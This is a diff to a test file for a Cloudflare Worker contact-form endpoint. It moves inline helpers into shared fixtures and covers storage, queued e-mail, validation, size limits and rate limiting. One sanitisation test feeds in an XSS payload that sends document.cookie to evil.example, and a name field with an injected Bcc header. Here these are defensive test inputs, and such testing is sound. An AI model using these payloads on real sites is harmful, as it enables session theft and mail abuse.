@@ -1,43 +1,27 @@
 import { env } from "cloudflare:workers";
 import { afterEach, describe, expect, it, vi } from "vitest";
-import { deliverDueEmails } from "#worker/services/outbox";
 import { startOfRateLimitWindow } from "./helpers";
 import {
   callWorker,
-  countAllSubmissions,
   countSubmissionsFrom,
   envWith,
   failingMailer,
   fakeMailer,
-  makeDue,
   outboxRowsForSubmission,
   postJson,
   submissionRow,
   uniqueEmail,
   uniqueIp,
 } from "./outbox-fakes";
-
-function aMessage(overrides: Record<string, unknown> = {}) {
-  return {
-    username: "Ana Lima",
-    email: uniqueEmail("ana"),
-    phone: "+1 714 555 0100",
-    message: "Do you cater office parties?\nAbout 30 people.",
-    ...overrides,
-  };
-}
+import { aContactMessage, deliverLater, expectRefused, storedId } from "./submission-fixtures";
 
 afterEach(() => vi.restoreAllMocks());
 
 describe("POST /api/contact", () => {
   it("stores the message, queues its e-mail to the shop and answers 201 with the id", async () => {
     const mailer = fakeMailer();
-    const body = aMessage();
-    const response = await postJson("/api/contact", body, { env: envWith(mailer) });
-
-    expect(response.status).toBe(201);
-    const { id } = (await response.json()) as { id: string };
-    expect(id).toMatch(/^[0-9a-f-]{36}$/);
+    const body = aContactMessage();
+    const id = await storedId(await postJson("/api/contact", body, { env: envWith(mailer) }));
 
     const submission = await submissionRow(id);
     expect(submission).toMatchObject({ kind: "contact", name: "Ana Lima", email: body.email });
@@ -63,7 +47,7 @@ describe("POST /api/contact", () => {
   });
 
   it("has stored the submission and its e-mail before the transport is called", async () => {
-    const body = aMessage();
+    const body = aContactMessage();
     let seenDuringSend: { submissions: number; emailStatus?: string } | undefined;
     const mailer = fakeMailer(async () => {
       const [row] = await env.DB.prepare(
@@ -81,21 +65,17 @@ describe("POST /api/contact", () => {
 
   it("keeps the message when the mail binding fails, and a later cron run delivers it", async () => {
     const logged = vi.spyOn(console, "error").mockImplementation(() => {});
-    const body = aMessage();
+    const body = aContactMessage();
     const response = await postJson("/api/contact", body, { env: envWith(failingMailer("binding exploded")) });
 
     // The visitor's message is safe, so the answer is a success.
-    expect(response.status).toBe(201);
-    const { id } = (await response.json()) as { id: string };
+    const id = await storedId(response);
     expect(await submissionRow(id)).toMatchObject({ kind: "contact", name: "Ana Lima", email: body.email });
     const [queued] = await outboxRowsForSubmission(id);
     expect(queued).toMatchObject({ status: "queued", attempts: 1, lastError: "binding exploded", sentAt: null });
     expect(logged).toHaveBeenCalled();
 
-    await makeDue(queued!.id);
-    const later = fakeMailer();
-    await deliverDueEmails(envWith(later));
-    const delivered = later.sent.filter((message) => message.replyTo === body.email);
+    const delivered = await deliverLater(queued!.id, body.email);
     expect(delivered).toHaveLength(1);
     expect(delivered[0]?.subject).toBe("Contact message from Ana Lima");
     const [sent] = await outboxRowsForSubmission(id);
@@ -106,7 +86,7 @@ describe("POST /api/contact", () => {
     const mailer = fakeMailer();
     const response = await postJson(
       "/api/contact",
-      aMessage({
+      aContactMessage({
         username: "Eve <script>alert(1)</script>\r\nBcc: everyone@example.com",
         message: '<script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>',
       }),
@@ -129,78 +109,69 @@ describe("POST /api/contact", () => {
       [
         {
           name: "missing name",
-          body: aMessage({ username: "  " }),
+          body: aContactMessage({ username: "  " }),
           field: "username",
           message: "username: Name is required",
         },
-        { name: "missing email", body: aMessage({ email: "" }), field: "email", message: "email: Email is required" },
+        {
+          name: "missing email",
+          body: aContactMessage({ email: "" }),
+          field: "email",
+          message: "email: Email is required",
+        },
         {
           name: "bad email",
-          body: aMessage({ email: "ana@" }),
+          body: aContactMessage({ email: "ana@" }),
           field: "email",
           message: "email: Invalid email format",
         },
         {
           name: "missing phone",
-          body: aMessage({ phone: "" }),
+          body: aContactMessage({ phone: "" }),
           field: "phone",
           message: "phone: Phone number is required",
         },
         {
           name: "short phone",
-          body: aMessage({ phone: "555 0100" }),
+          body: aContactMessage({ phone: "555 0100" }),
           field: "phone",
           message: "phone: Phone number must be at least 10 digits",
         },
         {
           name: "missing message",
-          body: aMessage({ message: "" }),
+          body: aContactMessage({ message: "" }),
           field: "message",
           message: "message: Message is required",
         },
         {
           name: "message too long",
-          body: aMessage({ message: "x".repeat(5001) }),
+          body: aContactMessage({ message: "x".repeat(5001) }),
           field: "message",
           message: "message: Message can be at most 5000 characters",
         },
         {
           name: "wrong type",
-          body: aMessage({ phone: 7145550100 }),
+          body: aContactMessage({ phone: 7145550100 }),
           field: "phone",
           message: "phone: Phone number is required",
         },
         {
           name: "unknown field",
-          body: aMessage({ isAdmin: true }),
+          body: aContactMessage({ isAdmin: true }),
           field: "isAdmin",
           message: "Unknown field: isAdmin",
           code: "unknown_field",
         },
       ];
-    for (const testCase of cases) {
-      it(testCase.name, async () => {
-        const before = await countAllSubmissions();
-        const mailer = fakeMailer();
-        const response = await postJson("/api/contact", testCase.body, { env: envWith(mailer) });
-        expect(response.status).toBe(400);
-        expect(await response.json()).toEqual({
-          error: { code: testCase.code ?? "invalid_input", field: testCase.field, message: testCase.message },
-        });
-        expect(await countAllSubmissions()).toBe(before);
-        expect(mailer.send).not.toHaveBeenCalled();
-      });
+    for (const { name, body, code, field, message } of cases) {
+      it(name, () => expectRefused("/api/contact", body, 400, { code: code ?? "invalid_input", field, message }));
     }
 
-    it("malformed JSON", async () => {
-      const before = await countAllSubmissions();
-      const response = await postJson("/api/contact", '{"username": "Ana",', { env: envWith(fakeMailer()) });
-      expect(response.status).toBe(400);
-      expect(await response.json()).toEqual({
-        error: { code: "invalid_json", message: "The request body is not valid JSON." },
-      });
-      expect(await countAllSubmissions()).toBe(before);
-    });
+    it("malformed JSON", () =>
+      expectRefused("/api/contact", '{"username": "Ana",', 400, {
+        code: "invalid_json",
+        message: "The request body is not valid JSON.",
+      }));
 
     it("a body that is not an object", async () => {
       const response = await postJson("/api/contact", "[1,2]", { env: envWith(fakeMailer()) });
@@ -208,33 +179,26 @@ describe("POST /api/contact", () => {
       expect(await response.json()).toMatchObject({ error: { code: "invalid_input", field: "body" } });
     });
 
-    it("a content type other than JSON", async () => {
-      const before = await countAllSubmissions();
-      const response = await postJson("/api/contact", "username=Ana", {
-        env: envWith(fakeMailer()),
-        headers: { "Content-Type": "application/x-www-form-urlencoded" },
-      });
-      expect(response.status).toBe(415);
-      const body = (await response.json()) as { error: { code: string; message: string } };
-      expect(body.error.code).toBe("unsupported_media_type");
-      expect(body.error.message).toMatch(/application\/json/);
-      expect(await countAllSubmissions()).toBe(before);
-    });
+    it("a content type other than JSON", () =>
+      expectRefused(
+        "/api/contact",
+        "username=Ana",
+        415,
+        {
+          code: "unsupported_media_type",
+          message: "Content-Type must be application/json",
+        },
+        { "Content-Type": "application/x-www-form-urlencoded" },
+      ));
 
-    it("an oversized body", async () => {
-      const before = await countAllSubmissions();
-      const response = await postJson("/api/contact", aMessage({ message: "x".repeat(20 * 1024) }), {
-        env: envWith(fakeMailer()),
-      });
-      expect(response.status).toBe(413);
-      expect(await response.json()).toEqual({
-        error: { code: "payload_too_large", message: "The request body is larger than 16 KB." },
-      });
-      expect(await countAllSubmissions()).toBe(before);
-    });
+    it("an oversized body", () =>
+      expectRefused("/api/contact", aContactMessage({ message: "x".repeat(20 * 1024) }), 413, {
+        code: "payload_too_large",
+        message: "The request body is larger than 16 KB.",
+      }));
 
     it("an oversized body sent without Content-Length (streamed)", async () => {
-      const chunk = new TextEncoder().encode(JSON.stringify(aMessage({ message: "y".repeat(20 * 1024) })));
+      const chunk = new TextEncoder().encode(JSON.stringify(aContactMessage({ message: "y".repeat(20 * 1024) })));
       const stream = new ReadableStream({
         start(controller) {
           controller.enqueue(chunk);
@@ -263,7 +227,7 @@ describe("POST /api/contact", () => {
     const mailer = fakeMailer();
     const statuses: number[] = [];
     for (let index = 0; index < 8; index += 1) {
-      const response = await postJson("/api/contact", aMessage({ email, message: `Spam ${index}` }), {
+      const response = await postJson("/api/contact", aContactMessage({ email, message: `Spam ${index}` }), {
         env: envWith(mailer),
         ip,
       });
@@ -278,7 +242,7 @@ describe("POST /api/contact", () => {
     expect(mailer.sent).toHaveLength(5);
 
     // Another client is not affected.
-    const other = await postJson("/api/contact", aMessage(), { env: envWith(mailer), ip: uniqueIp() });
+    const other = await postJson("/api/contact", aContactMessage(), { env: envWith(mailer), ip: uniqueIp() });
     expect(other.status).toBe(201);
   });
 });
